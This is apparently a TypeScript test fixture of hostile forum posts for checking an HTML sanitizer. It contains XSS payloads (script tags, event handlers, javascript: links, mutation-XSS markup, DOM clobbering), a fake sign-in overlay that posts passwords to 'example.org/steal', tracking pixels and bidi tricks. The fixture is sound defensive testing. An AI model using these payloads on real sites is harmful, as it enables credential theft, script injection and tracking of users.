/** Titles and HTML of malicious members. Any script that succeeds in running sets `window.__harmed`. */
export const hostilePosts: readonly (readonly [title: string, content: string])[] = [
  [
    '<img src=x onerror="window.__harmed=1">Markup in a title',
    '<p>The title must read as it was typed.</p><script>window.__harmed=1</script>',
  ],
  [
    'Handlers on harmless tags',
    '<p onmouseover="window.__harmed=1" onclick="window.__harmed=1">Point here.</p><img src="x" onerror="window.__harmed=1" alt="broken"><details open ontoggle="window.__harmed=1"><summary>Open</summary>text</details><svg onload="window.__harmed=1"></svg>',
  ],
  [
    'Links that are not links',
    '<p><a href="javascript:window.__harmed=1">script</a> <a href="JaVaScRiPt&#58;window.__harmed=1">script again</a> <a href="data:text/html,<script>opener.__harmed=1</script>">page</a> <a href="/logout">our own address</a> <a href="https://example.org/" target="_blank">elsewhere</a></p>',
  ],
  [
    'A cover over the whole page',
    '<style>body{display:none}</style><div style="position:fixed;inset:0;z-index:99999;background:#fff"><h1>Your session is over</h1><form action="https://example.org/steal"><input name="password" type="password" autofocus><button>Sign in</button></form></div><p>You should see the forum around this line.</p>',
  ],
  [
    'Names that shadow the page’s own',
    '<a id="location" href="https://example.org/">a</a><form id="document"><input id="body" name="attributes"></form><img name="getElementById" src="data:,"><p id="root">second root</p>',
  ],
  [
    'Pictures that follow the reader',
    '<p>Nothing of this may be asked for without a click.</p><img src="https://example.org/pixel.gif?reader=1" alt="pixel"><img src="/logout" alt="own"><img srcset="https://example.org/a.png 1x"><video poster="https://example.org/p.png" src="https://example.org/v.mp4"></video><link rel="stylesheet" href="https://example.org/s.css"><iframe src="https://example.org/"></iframe><p style="background:url(https://example.org/b.png)">ground</p>',
  ],
  [
    'Markup that mutates',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__harmed=1&gt;"></table></mtext></math><noscript><p title="</noscript><img src=x onerror=window.__harmed=1>"></noscript><template><script>window.__harmed=1</script></template>',
  ],
  [
    '\u202eהכותרת הזאת\u202c turns the line round \u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c',
    '<p dir="rtl">\u202eThe words after this post must still run left to right.</p>',
  ],
  [
    `A title without a single space ${'w'.repeat(140)}`,
    `<p>${'unbroken'.repeat(400)}</p><table><tr>${'<td>wide</td>'.repeat(120)}</tr></table><pre>${'x'.repeat(3000)}</pre>`,
  ],
  ['Nested without end', `${'<blockquote>'.repeat(400)}deep${'</blockquote>'.repeat(400)}`],
];
